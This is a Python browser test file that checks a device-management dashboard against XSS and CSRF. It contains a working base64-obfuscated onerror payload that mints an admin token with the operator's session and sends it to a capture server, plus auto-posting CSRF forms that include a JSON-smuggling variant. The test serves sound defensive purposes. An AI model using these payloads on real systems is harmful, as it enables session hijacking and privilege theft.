"""Attacks on the dashboard in a real browser (Playwright driving Debian's chromium), against the real service
with a real SQLite database:

(a) links whose URLs carry markup (an unknown rollout, a device page, an accept action, the sign-in page's
    `next`), followed by an operator who is not signed in (through the sign-in page and back) and by one who is;
    the payload would set `window.__pwned`, mint an admin token with the operator's session and report it to a
    capture server on another port. Run with the page's CSP bypassed (Playwright's `bypass_csp`), so the
    escaping alone is what stops it; no script runs, nothing reaches the capture server, no token is minted;
(b) a page served from another port of 127.0.0.1 (same site, another origin: the SameSite=Strict cookie is sent)
    auto-posts forms to accept a pending device and to mint a token: 403, nothing stored."""

from __future__ import annotations

import base64
import html
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote, unquote

import httpx
import pytest
from cp_support import chromium, need_chromium, running_service
from sqlalchemy import func, select

from agent.artifacts.keys import device_key
from agent.controlplane.models import AuditEntry, OperatorToken
from agent.transport.cpclient import enroll_request

pytestmark = [pytest.mark.timeout(600), pytest.mark.slow]


class Attacker:
    """Another origin on this host: serves the attack pages, and records every request (the capture server)."""

    def __init__(self):
        self.pages: dict[str, str] = {}
        self.hits: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - http.server's name
                outer.hits.append(self.path)
                body = outer.pages.get(self.path.split("?")[0], "").encode()
                self.send_response(200 if body else 204)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.server.shutdown()
        self.server.server_close()

    def captured(self) -> list[str]:
        return [h for h in self.hits if h.startswith("/capture")]


def payload(capture: str) -> str:
    """Markup that, if it ever ran, would mark the page, mint an admin token with the operator's session and send
    the answer to the capture server; written without '/', so it fits in one path segment."""
    js = (
        "window.__pwned=1;fetch('/api/v1/tokens',{method:'POST',credentials:'include',"
        "headers:{'Content-Type':'application/json'},body:JSON.stringify({name:'pwn',role:'admin'})})"
        f".then(r=>r.text()).then(t=>{{new Image().src='{capture}/capture?'+encodeURIComponent(t)}})"
    )
    while "/" in (b64 := base64.b64encode(js.encode()).decode()):
        js += " "
    return f"<img src=x onerror=eval(atob('{b64}'))>"


def csrf_page(action: str, fields: dict[str, str], enctype: str = "application/x-www-form-urlencoded") -> str:
    inputs = "".join(
        f'<input type="hidden" name="{html.escape(k)}" value="{html.escape(v)}">' for k, v in fields.items()
    )
    return (
        f'<!doctype html><form id="f" method="post" action="{html.escape(action)}" enctype="{enctype}">{inputs}</form>'
        "<script>document.getElementById('f').submit()</script>"
    )


def counts(cp) -> tuple[int, list[str]]:
    with cp.factory() as s:
        n = s.scalar(select(func.count()).select_from(OperatorToken)) or 0
        actions = [a.action for a in s.scalars(select(AuditEntry).order_by(AuditEntry.id))]
    return n, actions


def test_markup_links_and_cross_origin_forms_do_nothing(tmp_path):
    need_chromium()
    with running_service(tmp_path) as (cp, url), Attacker() as atk:
        api = httpx.Client(base_url=url, headers={"Authorization": f"Bearer {cp.admin_token}"}, timeout=30)
        r = api.post("/api/v1/enroll", json=enroll_request("dev-1", device_key(tmp_path / "keys" / "dev-1")))
        assert r.status_code == 202 and r.json()["state"] == "pending", r.text
        before = counts(cp)
        assert before[0] == 1
        evil = payload(atk.url)
        with chromium() as browser:
            ctx = browser.new_context(bypass_csp=True)  # the escaping alone must hold
            page = ctx.new_page()
            _reflected(page, url, cp, evil, atk)
            ctx.close()
            ctx = browser.new_context()  # (b) as the operator's browser is: CSP on
            page = ctx.new_page()
            _sign_in(page, url, cp.admin_token)
            _cross_origin_forms(page, url, atk)
            ctx.close()
        assert counts(cp) == before, "a token was minted or something was audited"
        assert api.get("/api/v1/devices/dev-1").json()["state"] == "pending"
        assert atk.captured() == []


def _sign_in(page, url: str, token: str) -> None:
    page.goto(url + "/login")
    page.fill("input[name=token]", token)
    page.click("button[type=submit]")
    page.wait_for_url(url + "/")


def _pwned(page) -> bool:
    page.wait_for_timeout(300)  # an onerror handler would have run by now (the image fails at once)
    return bool(page.evaluate("() => window.__pwned === 1"))


def _reflected(page, url: str, cp, evil: str, atk: Attacker) -> None:
    # not signed in: the link goes through the sign-in page, `next` brings the operator back to the markup
    link = url + "/rollouts/" + quote(evil, safe="")
    page.goto(link)
    assert "/login?next=" in page.url
    assert not _pwned(page)
    page.fill("input[name=token]", cp.admin_token)
    page.click("button[type=submit]")
    page.wait_for_url(lambda u: unquote(u) == unquote(link))  # back at the link (quoted by the redirect its way)
    assert page.inner_text("#error") == f"no rollout {evil}"  # shown as text
    assert not _pwned(page)
    # signed in: each link carrying markup
    for path in (
        "/rollouts/" + quote(evil, safe=""),
        "/devices/" + quote(evil, safe=""),
        "/devices/" + quote(evil, safe="") + "/accept",
        "/login?next=" + quote('/"><' + evil[1:], safe=""),
        "/login?error=" + quote(evil, safe=""),
        "/rollouts?error=" + quote(evil, safe=""),
    ):
        resp = page.goto(url + path)
        assert resp is not None and resp.status < 500, (path, resp and resp.status)
        assert not _pwned(page), path
    # the 400 answer for an accept of a device id carrying markup, posted as the operator's own form
    page.goto(url + "/pending")
    action = "/devices/" + quote(evil, safe="") + "/accept"
    with page.expect_response(lambda r: "/accept" in r.url) as answer:
        page.evaluate("(a) => { const f = document.querySelector('#pending form'); f.action = a; f.submit() }", action)
    assert answer.value.status == 400
    page.wait_for_load_state()
    assert evil in page.inner_text("#error") and not _pwned(page)


def _cross_origin_forms(page, url: str, atk: Attacker) -> None:
    atk.pages["/accept.html"] = csrf_page(url + "/devices/dev-1/accept", {"groups": "lab"})
    atk.pages["/accept-guess.html"] = csrf_page(url + "/devices/dev-1/accept", {"groups": "lab", "csrf": "x" * 43})
    atk.pages["/token.html"] = csrf_page(
        url + "/api/v1/tokens", {'{"name": "pwn", "role": "admin", "x": "': '"}'}, enctype="text/plain"
    )
    atk.pages["/rollout.html"] = csrf_page(url + "/rollouts", {"model_version": "tiny 1"})
    for name, target in (
        ("/accept.html", "/devices/dev-1/accept"),
        ("/accept-guess.html", "/devices/dev-1/accept"),
        ("/token.html", "/api/v1/tokens"),
        ("/rollout.html", "/rollouts"),
    ):
        with page.expect_response(lambda r, t=target: r.url == url + t) as answer:
            page.goto(atk.url + name)
        resp = answer.value
        assert resp.status == 403, (name, resp.status)
        sent = resp.request.all_headers()
        assert sent.get("origin") == atk.url, sent
        assert "eacp_session=" in sent.get("cookie", ""), sent  # same site: the Strict cookie went with it
        page.wait_for_load_state()
        assert "origin: refused" in page.content(), name
    page.goto(url + "/pending")  # the operator is still signed in: the refusals were not for want of a session
    assert "dev-1" in page.inner_text("#pending")
